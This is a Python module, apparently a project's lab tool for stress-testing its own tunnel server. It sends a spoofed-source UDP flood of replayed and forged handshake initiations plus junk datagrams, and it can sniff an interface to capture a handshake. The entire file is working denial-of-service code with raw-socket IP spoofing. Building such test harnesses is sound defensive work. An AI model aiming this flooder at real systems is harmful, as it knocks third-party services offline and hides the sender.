"""A handshake flooder for the lab: spoofed sources, paced, bounded in time (attacker's tool).

Run inside a lab namespace (never the host's)::

    python3 -m ratbond.lab.flooder flood --target 198.18.0.100:12345 --initiation HEX \
        [--init-rate 10000] [--junk-rate 50000] [--sources 10000] [--seconds 20] \
        [--source IP:PORT]
    python3 -m ratbond.lab.flooder capture --iface isp0 --port 12345 [--seconds 10]

Sends, from ``--sources`` distinct spoofed addresses in 100.64.0.0/10 (a raw socket writes
its own IPv4 header, so the kernel takes any source), per second: ``--init-rate``
handshake initiations -- one half the captured ``--initiation`` replayed as is, the other
half forged (its clear prefix and key id, random everything else, so the server spends a
MAC on each) -- and ``--junk-rate`` random datagrams of 1 to 200 bytes.  Replies to the
spoofed addresses go nowhere (the caller routes 100.64.0.0/10 to a blackhole).  Stops after
``--seconds`` or on SIGTERM and prints one JSON line: what it sent and at what rate it
actually managed (Python on a shared machine may not reach the rates asked for).
``--source`` sends everything from that one address instead (e.g. the server's, to reach a
client's connected WAN sockets).  ``capture`` prints, as hex, the first handshake initiation
to ``--port`` seen on ``--iface`` (what an attacker on the path records).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import signal
import socket
import struct
import sys
import time
from types import FrameType

_IP = struct.Struct("!BBHHHBBH4s4s")
_UDP = struct.Struct("!HHHH")
#: Bytes of an initiation kept as captured when forging: header, prefix and key id.
_FORGED_KEEP = 28
_TICK = 0.002  # seconds between bursts


def spoofed_sources(count: int, seed: int) -> list[tuple[bytes, int]]:
    """``count`` distinct (IPv4 address, port) pairs in 100.64.0.0/10."""
    rng = random.Random(seed)
    addresses = rng.sample(range(1, 1 << 22), count)
    return [(struct.pack("!I", (100 << 24) | (64 << 16) | value), rng.randrange(1024, 65536))
            for value in addresses]


def packet(source: tuple[bytes, int], target: tuple[bytes, int], payload: bytes) -> bytes:
    """An IPv4/UDP packet (IP checksum and id filled in by the kernel, UDP checksum 0)."""
    total = _IP.size + _UDP.size + len(payload)
    ip = _IP.pack(0x45, 0, total, 0, 0, 64, socket.IPPROTO_UDP, 0, source[0], target[0])
    return ip + _UDP.pack(source[1], target[1], _UDP.size + len(payload), 0) + payload


def build(target: tuple[bytes, int], initiation: bytes, addrs: list[tuple[bytes, int]],
          seed: int) -> tuple[list[bytes], list[bytes]]:
    """Initiation packets (replayed and forged, alternating) and junk packets, one per
    source each."""
    rng = random.Random(seed)
    inits = []
    for index, source in enumerate(addrs):
        if index % 2 == 0:
            payload = initiation
        else:
            payload = initiation[:_FORGED_KEEP] + rng.randbytes(len(initiation) - _FORGED_KEEP)
        inits.append(packet(source, target, payload))
    junk = [packet(source, target, rng.randbytes(rng.randrange(1, 201))) for source in addrs]
    return inits, junk


def flood(target: tuple[str, int], initiation: bytes, *, init_rate: float, junk_rate: float,
          sources: int, seconds: float, seed: int = 1,
          source: tuple[str, int] | None = None) -> dict[str, float]:
    packed_target = (socket.inet_aton(target[0]), target[1])
    addrs = (spoofed_sources(sources, seed) if source is None
             else [(socket.inet_aton(source[0]), source[1])])
    inits, junk = build(packed_target, initiation, addrs, seed)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    stop = False

    def on_term(_signum: int, _frame: FrameType | None) -> None:
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    send = sock.sendto
    dest = (target[0], 0)
    sent_init = sent_junk = dropped = 0
    i_index = j_index = 0
    start = time.monotonic()
    print("READY", flush=True)
    while not stop:
        elapsed = time.monotonic() - start
        if elapsed >= seconds:
            break
        due_init = int(elapsed * init_rate) - sent_init
        due_junk = int(elapsed * junk_rate) - sent_junk
        for _ in range(min(due_init, int(init_rate * 0.005) + 1)):  # bursts of <= 5 ms
            try:
                send(inits[i_index], dest)
            except OSError:
                dropped += 1
            sent_init += 1
            i_index = (i_index + 1) % len(inits)
        for _ in range(min(due_junk, int(junk_rate * 0.005) + 1)):
            try:
                send(junk[j_index], dest)
            except OSError:
                dropped += 1
            sent_junk += 1
            j_index = (j_index + 1) % len(junk)
        if due_init <= 0 and due_junk <= 0:
            time.sleep(_TICK)
    elapsed = max(1e-9, time.monotonic() - start)
    sock.close()
    return {"initiations": sent_init, "junk": sent_junk, "send_errors": dropped,
            "seconds": round(elapsed, 3), "init_rate": round(sent_init / elapsed),
            "junk_rate": round(sent_junk / elapsed), "sources": len(addrs)}


def capture(iface: str, port: int, seconds: float) -> str:
    """The first HANDSHAKE_INIT to ``port`` seen on ``iface``, as hex ("" if none)."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
    sock.bind((iface, 0x0003))
    sock.settimeout(0.2)
    deadline = time.monotonic() + seconds
    print("READY", flush=True)
    try:
        while time.monotonic() < deadline:
            try:
                frame, link = sock.recvfrom(65535)
            except TimeoutError:
                continue
            if link[1] != 0x0800 or len(frame) < 30 or frame[9] != socket.IPPROTO_UDP:
                continue
            ihl = (frame[0] & 0x0F) * 4
            payload = frame[ihl + 8:]
            if struct.unpack_from("!H", frame, ihl + 2)[0] == port and payload[1:2] == b"\x01":
                return payload.hex()
    finally:
        sock.close()
    return ""


def _address(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    try:
        return socket.inet_ntoa(socket.inet_aton(host)), int(port)
    except (OSError, ValueError):
        raise argparse.ArgumentTypeError(f"{text!r} is not IPv4:PORT") from None


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="ratbond.lab.flooder", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    commands = parser.add_subparsers(dest="command", required=True)
    run = commands.add_parser("flood", help="send the flood")
    run.add_argument("--target", type=_address, required=True)
    run.add_argument("--initiation", type=bytes.fromhex, required=True,
                     help="a captured initiation datagram, hex")
    run.add_argument("--init-rate", type=float, default=10_000.0)
    run.add_argument("--junk-rate", type=float, default=50_000.0)
    run.add_argument("--sources", type=int, default=10_000)
    run.add_argument("--source", type=_address, default=None)
    run.add_argument("--seconds", type=float, default=20.0)
    run.add_argument("--seed", type=int, default=1, help="picks the spoofed sources")
    tap = commands.add_parser("capture", help="print the first initiation seen, hex")
    tap.add_argument("--iface", required=True)
    tap.add_argument("--port", type=int, required=True)
    tap.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args(argv)
    if not 0 < args.seconds <= 600:
        parser.error(f"--seconds {args.seconds}: choose more than 0 and at most 600")
    if os.geteuid() != 0:
        parser.error("needs root (a raw socket) inside a lab namespace")
    if args.command == "capture":
        print(json.dumps({"initiation": capture(args.iface, args.port, args.seconds)}),
              flush=True)
        return 0
    if not 1 <= args.sources <= 1 << 21:
        parser.error(f"--sources {args.sources}: choose 1 to {1 << 21}")
    if args.init_rate < 0 or args.junk_rate < 0 or args.init_rate + args.junk_rate > 1e6:
        parser.error(f"rates {args.init_rate:g}/{args.junk_rate:g}: choose 0 to 1,000,000/s")
    if len(args.initiation) < 32:
        parser.error(f"--initiation is {len(args.initiation)} bytes: not an initiation")
    result = flood(args.target, args.initiation, init_rate=args.init_rate,
                   junk_rate=args.junk_rate, sources=args.sources, seconds=args.seconds,
                   seed=args.seed, source=args.source)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
